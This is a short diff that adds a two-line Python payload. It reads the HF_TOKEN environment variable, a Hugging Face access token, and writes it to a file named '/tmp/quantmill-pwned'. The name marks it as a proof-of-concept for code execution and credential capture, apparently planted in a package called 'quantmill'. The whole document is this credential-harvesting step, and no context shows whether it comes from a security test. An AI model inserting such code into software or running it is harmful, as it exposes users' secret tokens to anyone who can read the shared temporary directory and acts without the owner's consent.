@@ -1,0 +1,2 @@
+import os
+open('/tmp/quantmill-pwned', 'w').write(os.environ.get('HF_TOKEN', ''))
